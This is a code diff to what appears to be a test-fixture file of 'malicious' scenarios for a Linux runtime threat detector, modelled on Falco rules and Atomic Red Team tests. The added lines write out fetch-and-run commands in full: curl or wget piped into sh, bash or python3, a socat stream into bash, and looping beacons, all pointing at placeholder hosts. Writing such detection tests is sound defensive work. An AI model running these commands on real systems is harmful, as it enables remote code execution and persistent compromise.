@@ -3,7 +3,7 @@
  * techniques, Falco's rules and Atomic Red Team's Linux tests (../shared/peer), in our
  * own words and with made-up hosts (RFC 5737 addresses, example domains).
  */
-import { bashc, proc, scenario, shc, tcp, tcpStdio } from './build.ts'
+import { bashc, pipedFrom, proc, scenario, shc, tcp, tcpStdio } from './build.ts'
 import type { Scenario } from './build.ts'
 
 const XMR = '4AMASi45ub7Qe4ZE36UT5G6cU4ud8Fhhe4deS4F3cw9KTAb8dLcukC7edhDQ7cn5d4gEYkbUrMWeWQLGsCmrG6dLaYyNoVK'
@@ -81,6 +81,14 @@ export const malicious: readonly Scenario[] = [
 
   // suspicious_network (T1105, T1046, T1572, T1090)
   scenario('suspicious_network', 'curl | bash from a raw IP', shc('curl -fsSL http://185.224.128.7/init.sh | bash')),
+  // Atomic Red Team T1105 / T1059.004: a fetch-and-run beacon loop, from an internal host too.
+  // The shell at the end of `curl ... | sh`, seen from its stdin (the command line says only `sh`).
+  scenario('suspicious_network', 'sh reading a script from curl connected to an internal host', proc('sh', { ...pipedFrom('curl -s http://10.0.0.5/s.sh', [tcp('10.0.0.5', 80)]), parents: ['bash', 'sshd'] })),
+  scenario('suspicious_network', 'python3 - reading from wget on a raw IP', proc('python3 -', { ...pipedFrom('wget -qO- http://198.51.100.23:8000/x.py', [tcp('198.51.100.23', 8000)]), container: true, parents: ['sh', 'containerd-shim'] })),
+  scenario('suspicious_network', 'bash -s fed by a socat stream', proc('bash -s -- --quiet', { ...pipedFrom('socat - TCP:203.0.113.9:443', [tcp('203.0.113.9', 443)]), parents: ['bash'] })),
+  scenario('suspicious_network', 'beacon loop: curl | sh every minute from an internal host', shc('while true; do curl -s http://10.0.0.5/s.sh | sh; sleep 60; done')),
+  scenario('suspicious_network', 'beacon loop: wget | bash over https', bashc('while :; do wget -qO- https://cdn.example.com/u.sh | bash; sleep 300; done')),
+  scenario('suspicious_network', 'beacon loop: curl | python3 until killed', bashc('until false; do curl -fsS https://10.20.0.9:8443/t.py | python3; sleep 30; done', { container: true, parents: ['containerd-shim'] })),
   scenario('suspicious_network', 'wget -O - | sh over cleartext', shc('wget -q -O - http://update.example-cdn.ru/d.sh | sh')),
   scenario('suspicious_network', 'sh -c "$(curl ...)" from an unknown GitHub repo', shc('sh -c "$(curl -fsSL https://raw.githubusercontent.com/evilgroup/tools/main/install.sh)"')),
   scenario('suspicious_network', 'pipe-to-shell test script', shc('cd /tmp; curl -s https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1059.004/src/pipe-to-shell.sh |bash; ls -la /tmp/art.txt')),
